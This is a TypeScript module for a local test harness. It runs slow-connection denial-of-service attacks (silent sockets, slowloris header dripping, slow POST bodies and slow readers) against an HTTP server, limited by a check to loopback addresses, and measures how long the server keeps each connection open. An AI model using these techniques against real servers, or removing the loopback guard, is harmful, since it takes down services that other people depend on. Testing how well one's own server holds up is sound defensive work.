import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/**
 * How a client can hold a connection and cost a server what it can.
 *
 * - `silent`: connects and says nothing.
 * - `slow-headers`: one header line after another, for ever (slowloris).
 * - `slow-body`: announces a body and sends it byte by byte.
 * - `slow-reader`: asks for something large and reads none of the answer.
 */
export const ATTACKS = ['silent', 'slow-headers', 'slow-body', 'slow-reader'] as const;

export type AttackKind = (typeof ATTACKS)[number];

export interface AttackOrder {
  readonly kind: AttackKind;
  /** Host and port. */
  readonly address: string;
  readonly count: number;
  /** Milliseconds between two bytes, or header lines. */
  readonly intervalMs: number;
  /** Milliseconds over which they arrive, one after the other. */
  readonly arriveMs: number;
  /** What is asked for; for a slow reader something larger than what sockets hold. */
  readonly path: string;
}

export interface AttackReport {
  readonly connected: number;
  /** How long those held out that the server got rid of, in milliseconds, sorted; a slow reader does not notice. */
  readonly heldMs: readonly number[];
}

export interface Attack {
  /** Settles when every attacker is connected, or was refused. */
  readonly begun: Promise<void>;
  report(): AttackReport;
  stop(): void;
}

const first = (kind: AttackKind, host: string, path: string): string => {
  switch (kind) {
    case 'silent':
      return '';
    case 'slow-headers':
      return `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n`;
    case 'slow-body':
      return `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 100000\r\n\r\n`;
    case 'slow-reader':
      return `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  }
};

const next = (kind: AttackKind, n: number): string => {
  if (kind === 'slow-headers') return `X-${n}: y\r\n`;
  return kind === 'slow-body' ? 'x' : '';
};

/** Attacks an address; loopback only, so that nobody else is hit by a slip. */
export const attack = ({ kind, address, count, intervalMs, arriveMs, path }: AttackOrder): Attack => {
  const at = address.lastIndexOf(':');
  const host = address.slice(0, at);
  const port = Number(address.slice(at + 1));
  if (!/^(?:127\.|\[?::1\]?$|localhost$)/.test(host)) throw new Error(`${host} is not this machine`);
  const held: number[] = [];
  const sockets = new Set<Socket>();
  let connected = 0;

  const begin = async (n: number): Promise<void> => {
    await delay((n / count) * arriveMs);
    return new Promise((resolve) => {
      const socket = connect({ host: host.replace(/^\[|\]$/g, ''), port, noDelay: true });
      let since = 0;
      let sent = 0;
      let timer: NodeJS.Timeout | undefined;
      sockets.add(socket);
      socket.once('connect', () => {
        since = performance.now();
        connected += 1;
        socket.write(first(kind, host, path));
        timer = setInterval(() => {
          sent += 1;
          if (socket.writable) socket.write(next(kind, sent));
        }, intervalMs);
        // Answers to the others are taken in, so that the end of the connection is noticed.
        if (kind !== 'slow-reader') socket.resume();
        resolve();
      });
      socket.once('error', () => resolve());
      socket.once('close', () => {
        clearInterval(timer);
        if (sockets.delete(socket) && since > 0) held.push(performance.now() - since);
      });
    });
  };

  return {
    begun: Promise.all(Array.from({ length: count }, (_, n) => begin(n))).then(() => undefined),
    report: () => ({ connected, heldMs: [...held].sort((a, b) => a - b) }),
    stop: () => {
      const left = [...sockets];
      sockets.clear();
      for (const socket of left) socket.destroy();
    },
  };
};
